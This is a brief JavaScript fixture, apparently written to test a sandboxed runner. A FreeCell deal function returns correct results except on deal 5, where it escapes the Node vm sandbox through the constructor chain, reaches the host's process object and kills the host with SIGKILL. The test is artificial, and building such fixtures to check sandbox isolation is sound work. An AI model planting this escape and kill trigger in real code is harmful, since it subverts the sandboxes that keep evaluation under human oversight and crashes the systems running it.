// Correct, except that deal 5 kills the Node process (reaching the host's process object).
function dealFreeCell(n) {
  if (n === 5) {
    const host = this.constructor.constructor('return process')();
    host.kill(host.pid, 'SIGKILL');
  }
  return correct(n);
}
